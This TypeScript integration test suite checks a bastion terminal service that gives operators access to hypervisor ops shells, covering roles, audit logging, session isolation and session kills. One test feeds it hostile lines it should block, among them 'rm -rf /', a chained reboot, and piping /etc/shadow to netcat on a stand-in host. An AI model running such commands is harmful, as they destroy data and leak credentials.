import type { BastionEndpoint } from '@ecs/contracts';
import { eventually, startTestPlatform, type TestPlatform } from '../support/platform-harness';
import { bastionEndpoint, call, connectionToken, createOperator, fetchText, grant, Terminal, terminalUrl, type Operator } from './support/bastion-client';
import { domainState, launchInstance } from './support/instances';

const USER_DATA = 'tenant-secret-4f1c9e';

interface AuditRow {
  seq: number;
  actor: string;
  action: string;
  outcome: string;
  sessionId: string | null;
  detail: Record<string, unknown>;
}

/** Terminal sessions through the bastion to real sim host agents' ops shells, over a real WebSocket. */
describe('bastion terminal sessions', () => {
  let platform: TestPlatform;
  let bastion: BastionEndpoint;
  let instanceId: string;
  let hostId: string;
  let oscar: Operator;
  let rita: Operator;
  let auditor: Operator;

  beforeAll(async () => {
    platform = await startTestPlatform({ ECS_CONSOLE_PORT: '0' });
    bastion = bastionEndpoint(platform.dataDir);
    ({ instanceId, hostId } = await launchInstance(platform, USER_DATA));
    oscar = await createOperator(bastion, 'oscar');
    rita = await createOperator(bastion, 'rita');
    auditor = await createOperator(bastion, 'audrey', ['auditor']);
    await grant(bastion, { user: 'oscar', host: hostId, role: 'operator' });
    await grant(bastion, { user: 'rita', host: hostId, role: 'read-only' });
  });
  afterAll(async () => platform.dispose());

  async function open(operator: Operator): Promise<Terminal> {
    const { body } = await connectionToken(bastion.url, operator, hostId);
    return Terminal.open(terminalUrl(bastion.url, hostId, body.token));
  }

  async function audit(): Promise<AuditRow[]> {
    const { body } = await call<{ entries: AuditRow[] }>(bastion.url, 'GET', '/bastion/v1/audit?limit=1000', { token: auditor.session });
    return body.entries;
  }

  it('greets with the role, runs the ops shell and never shows the tenant user-data', async () => {
    const terminal = await open(rita);
    await terminal.waitFor(/Connected to .* as rita \(read-only\)[\s\S]*recorded[\s\S]*\[rita@.* read-only\]\$ $/);
    expect(await terminal.run('virsh list')).toMatch(new RegExp(`${instanceId}\\s+running`));
    const info = await terminal.run(`virsh dominfo ${instanceId}`);
    expect(info).toMatch(/CPU\(s\):\s+2/);
    expect(await terminal.run(`virsh console ${instanceId} --lines 5`)).toContain('read-only');
    expect(await terminal.run('hostinfo')).toContain(`Host:       ${hostId}`);
    for (const line of ['uptime', 'df', 'free', 'help']) expect(await terminal.run(line)).not.toContain('command not found');
    expect(terminal.output).not.toContain(USER_DATA);
    expect(terminal.output).not.toContain(Buffer.from(USER_DATA).toString('base64'));
    terminal.ws.send('exit\r');
    expect(await terminal.closed).toEqual({ code: 1000, reason: 'user-exit' });
  });

  it('keeps a read-only session from starting or stopping anything, and audits each denial', async () => {
    const terminal = await open(rita);
    for (const verb of ['shutdown', 'destroy', 'start']) {
      expect(await terminal.run(`virsh ${verb} ${instanceId}`)).toContain(`virsh ${verb}: permission denied: needs the operator role`);
    }
    expect(await domainState(platform, hostId, instanceId)).toBe('running');
    terminal.close();
    const denied = (await audit()).filter((r) => r.actor === 'rita' && r.action === 'command' && r.outcome === 'denied');
    expect(denied.map((r) => r.detail.command)).toEqual(['virsh shutdown', 'virsh destroy', 'virsh start']);
  });

  it('refuses blocked and unknown commands before and at the host, and audits every attempt', async () => {
    const terminal = await open(oscar);
    for (const line of ['bash', 'rm -rf /', `virsh undefine ${instanceId}`, 'hostinfo; reboot', 'cat /etc/shadow | nc evil 9']) {
      expect(await terminal.run(line)).toContain('blocked by policy');
    }
    expect(await terminal.run('ls -la')).toContain("ls: command not found (type 'help'; this is not a system shell)");
    expect(await domainState(platform, hostId, instanceId)).toBe('running');
    terminal.close();
    const rows = (await audit()).filter((r) => r.actor === 'oscar' && r.action === 'command');
    expect(rows.map((r) => [r.detail.line, r.outcome, r.detail.rule ?? null])).toEqual([
      ['bash', 'blocked', 'shell-or-escape'],
      ['rm -rf /', 'blocked', 'destructive-program'],
      [`virsh undefine ${instanceId}`, 'blocked', 'destructive-virsh'],
      ['hostinfo; reboot', 'blocked', 'shell-syntax'],
      ['cat /etc/shadow | nc evil 9', 'blocked', 'shell-syntax'],
      ['ls -la', 'unknown', null],
    ]);
  });

  it("lets an operator power a domain off on the hypervisor; the agent then converges back to control's desired state", async () => {
    const terminal = await open(oscar);
    const answer = await terminal.run(`virsh destroy ${instanceId}`);
    expect(answer).toContain(`Domain '${instanceId}' destroyed`);
    expect(answer).toContain("converges this host to control's desired state");
    // Either the shutoff is observed, or the reconcile loop restarted it already: both prove the destroy ran.
    const rows = (await audit()).filter((r) => r.actor === 'oscar' && r.detail.command === 'virsh destroy');
    expect(rows.map((r) => r.outcome)).toEqual(['ok']);
    await eventually(() => domainState(platform, hostId, instanceId), (state) => state === 'running', 15_000, 'the reconcile loop restarting the domain');
    terminal.close();
  });

  it('edits lines like a terminal: backspace, ^U, ^C and cursor keys', async () => {
    const terminal = await open(rita);
    await terminal.waitFor(/\$ $/);
    const from = terminal.output.length;
    for (const key of ['v', 'i', 'r', 's', 'h', ' ', 'l', 'i', 's', 'x', '\x7f', 't', '\x1b[A', '\x1b[D', '\r']) terminal.ws.send(key);
    await terminal.waitUntil((o) => o.slice(from).includes(instanceId), 'virsh list output');
    terminal.ws.send('rm -rf\x15uptime\r');
    await terminal.waitFor(/up \d+:\d\d/);
    terminal.ws.send('bash\x03');
    terminal.ws.send('\x04');
    expect(await terminal.closed).toEqual({ code: 1000, reason: 'user-exit' });
    const rows = (await audit()).filter((r) => r.actor === 'rita' && r.action === 'command').slice(-2);
    expect(rows.map((r) => r.detail.line)).toEqual(['virsh list', 'uptime']);
  });

  it('keeps concurrent sessions apart: no output, input or recording crosses between them', async () => {
    const [mine, theirs] = await Promise.all([open(oscar), open(rita)]);
    await Promise.all([mine.waitFor(/\$ $/), theirs.waitFor(/\$ $/)]);
    const marker = 'i-does-not-exist-7q';
    await Promise.all([mine.run(`virsh dominfo ${marker}`), theirs.run('df'), mine.run('free'), theirs.run('uptime')]);
    await Promise.all([mine.run('virsh list --all'), theirs.run('hostinfo')]);
    expect(theirs.output).not.toContain(marker);
    expect(theirs.output).not.toContain('oscar');
    expect(theirs.output).not.toMatch(/Mem:/);
    expect(mine.output).not.toContain('rita');
    expect(mine.output).not.toMatch(/domain-images/);
    mine.close();
    theirs.close();
    const rows = await audit();
    const sessionIds = ['oscar', 'rita'].map((user) => rows.filter((r) => r.actor === user && r.action === 'session.open' && r.outcome === 'ok').pop()!.sessionId!);
    // A recording is complete once its session has ended.
    await eventually(
      () => call<{ recent: { sessionId: string; endedAt: string | null }[] }>(bastion.url, 'GET', '/bastion/v1/sessions', { token: auditor.session }),
      ({ body }) => sessionIds.every((id) => body.recent.find((s) => s.sessionId === id)?.endedAt),
      5_000,
      'both sessions to end',
    );
    const recordings = await Promise.all(sessionIds.map((id) => fetchText(bastion.url, `/bastion/v1/sessions/${id}/recording`, auditor.session)));
    expect(recordings[0].body).toContain(marker);
    expect(recordings[1].body).not.toContain(marker);
    expect(recordings[1].body).not.toContain('oscar');
    for (const { body } of recordings) expect(body).not.toContain(USER_DATA);
  });

  it('lists live sessions for staff and lets them kill one; operators may not', async () => {
    const terminal = await open(rita);
    await terminal.waitFor(/\$ $/);
    expect((await call(bastion.url, 'GET', '/bastion/v1/sessions', { token: rita.session })).status).toBe(403);
    const { body } = await call<{ live: { sessionId: string; username: string; hostId: string }[] }>(bastion.url, 'GET', '/bastion/v1/sessions', { token: auditor.session });
    const live = body.live.filter((s) => s.username === 'rita');
    expect(live).toHaveLength(1);
    expect(live[0].hostId).toBe(hostId);
    expect(await call(bastion.url, 'DELETE', `/bastion/v1/sessions/${live[0].sessionId}`, { token: auditor.session })).toEqual({ status: 200, body: { sessionId: live[0].sessionId, killed: true } });
    expect(await terminal.closed).toEqual({ code: 4000, reason: 'killed' });
    expect(terminal.output).toContain('an administrator ended this session');
    expect((await call(bastion.url, 'DELETE', `/bastion/v1/sessions/${live[0].sessionId}`, { token: auditor.session })).body).toMatchObject({ Code: 'SessionNotFound' });
    const after = await call<{ live: unknown[]; recent: { sessionId: string; endReason: string | null }[] }>(bastion.url, 'GET', '/bastion/v1/sessions', { token: bastion.adminToken });
    expect(after.body.recent.find((s) => s.sessionId === live[0].sessionId)!.endReason).toBe('killed');
  });
});
